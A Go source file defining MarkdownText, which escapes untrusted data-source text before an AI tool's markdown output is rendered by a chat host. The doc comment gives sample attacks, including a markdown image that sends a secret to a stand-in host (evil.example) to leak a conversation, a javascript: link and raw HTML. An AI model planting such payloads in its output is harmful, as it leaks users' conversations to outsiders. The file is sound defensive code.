package dualresp

import "strings"

// MarkdownText makes text that came from elsewhere (a data source's names,
// descriptions and values) safe inside markdown: one line, shown as
// written, never markup that acts. A chat host renders a tool's text, and
// a portal's text is anyone's: "![x](https://evil.example/x?q=SECRET)" is
// an image the host may load (a known way to leak a conversation), a
// "[link](javascript:…)" a link to click, "<img …>" HTML, and "## …" a
// heading that passes for the tool's own words.
//
// Line breaks become spaces; a backslash, the brackets of links and
// images, the angle brackets of HTML and autolinks, and the pipe of a
// table cell are escaped with a backslash (CommonMark's escapes, so a
// renderer shows the characters, and a model reading the text sees them
// plainly); so is a '#' that starts the text. Emphasis characters ('*',
// '_') are left as they are: they only format, and field names are full of
// underscores. Entities ("&#91;") are not markup in CommonMark.
//
// The sample table of a Response escapes its cells with it; tools that
// write their own markdown use it for every piece of a source's text.
func MarkdownText(s string) string {
	s = markdownReplacer.Replace(s)
	if strings.HasPrefix(s, "#") {
		s = `\` + s
	}
	return s
}

var markdownReplacer = strings.NewReplacer(
	`\`, `\\`, "[", `\[`, "]", `\]`, "<", `\<`, ">", `\>`, "|", `\|`,
	"\r\n", " ", "\n", " ", "\r", " ", "\u2028", " ", "\u2029", " ",
)
